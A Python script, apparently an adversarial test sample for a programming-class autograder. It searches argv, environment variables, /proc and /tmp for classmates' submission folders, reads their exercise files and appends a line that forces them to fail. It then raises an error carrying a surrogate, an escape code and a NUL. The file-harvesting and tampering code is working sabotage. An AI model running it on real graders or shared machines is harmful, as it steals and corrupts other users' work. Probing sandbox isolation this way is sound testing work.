"""Looks for the class's submissions (the grader's argv, environment, /proc, the temporary
folder), copies a classmate's ex06 and rewrites every classmate file it finds; then fails with
a message holding a lone surrogate, an escape sequence and a NUL."""

import glob
import os
import sys

found = []
for source in (sys.argv, getattr(sys, "orig_argv", []), list(os.environ.values())):
    found += [str(item) for item in source if "submissions" in str(item)]
for path in ("/proc/self/cmdline", f"/proc/{os.getppid()}/cmdline", "/proc/self/environ"):
    try:
        with open(path, "rb") as fh:
            text = fh.read().replace(b"\0", b" ").decode(errors="replace")
        found += [word for word in text.split() if "submissions" in word]
    except OSError as error:
        print("could not read", path, type(error).__name__)
folders = {word.split("=", 1)[-1] for word in found}
folders |= set(glob.glob("/tmp/kata-submissions-*/*")) | set(glob.glob("/tmp/*/submissions/*"))
stolen = rewritten = 0
for folder in sorted(folders):
    for path in glob.glob(os.path.join(folder, "**", "ex0*.py"), recursive=True):
        try:
            with open(path) as fh:
                fh.read()
            stolen += 1
            with open(path, "a") as fh:
                fh.write("\nraise SystemExit('rewritten by a classmate')\n")
            rewritten += 1
        except OSError as error:
            print("refused", type(error).__name__)
raise RuntimeError(f"\udcff found {len(found)} names, stole {stolen}, rewrote {rewritten} \x1b[31m\x00")
